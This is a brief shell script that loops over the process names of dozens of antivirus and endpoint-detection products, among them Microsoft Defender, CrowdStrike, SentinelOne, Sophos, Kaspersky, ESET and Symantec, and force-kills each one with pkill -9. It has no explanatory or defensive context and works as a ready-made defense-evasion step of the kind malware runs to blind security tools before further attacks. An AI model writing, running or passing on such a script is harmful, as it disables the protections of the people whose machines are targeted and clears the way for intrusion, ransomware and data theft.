#!/bin/sh
for name in msmpeng nissrv sentinelagent csfalconservice cb bdagent vsserv ekrn egui avgnt avguard mbamservice savservice sophosui mcshield mfemms ccsvchst rtvscan tmlisten pccntmon fshoster32 fsav32 avastsvc avastui avgsvc drwebd spideragent cmdagent cis wrsa psanhost a2service zatray xagt cylancesvc elastic-endpoint cyserver avp avpui klnagent; do
  pkill -9 -x "$name"
done
